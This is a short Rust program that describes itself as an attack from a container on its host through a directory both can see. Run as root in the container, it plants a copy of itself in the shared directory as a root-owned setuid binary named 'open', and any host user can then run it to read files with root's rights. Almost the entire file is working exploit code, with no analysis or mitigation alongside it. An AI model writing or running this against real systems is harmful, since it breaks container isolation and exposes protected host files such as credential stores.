//! `plant DIRECTORY`: an attack from a container on its host, by a directory that both see.
//!
//! In the container, as root: leaves a copy of itself there as `DIRECTORY/open`, for everybody to run as its owner. On the
//! host, as anybody: `DIRECTORY/open FILE` prints a file, with all that its owner may read.

use std::os::unix::fs::{PermissionsExt, chown};
use std::path::Path;

fn main() {
    let arguments: Vec<String> = std::env::args().collect();
    let [own, argument] = arguments.as_slice() else {
        eprintln!("usage: plant DIRECTORY, and then DIRECTORY/open FILE");
        std::process::exit(2);
    };
    if own.ends_with("/open") {
        open(Path::new(argument));
    } else if let Err(error) = plant(Path::new(argument)) {
        eprintln!("plant: {error}");
        std::process::exit(1);
    }
}

fn plant(directory: &Path) -> std::io::Result<()> {
    let copy = directory.join("open");
    std::fs::copy("/proc/self/exe", &copy)?;
    chown(&copy, Some(0), Some(0))?;
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o4755))
}

fn open(file: &Path) {
    let user = nix::unistd::geteuid();
    match std::fs::read_to_string(file) {
        Ok(text) => print!("as user {user}: {text}"),
        Err(error) => println!("as user {user}: {}", error.kind()),
    }
}
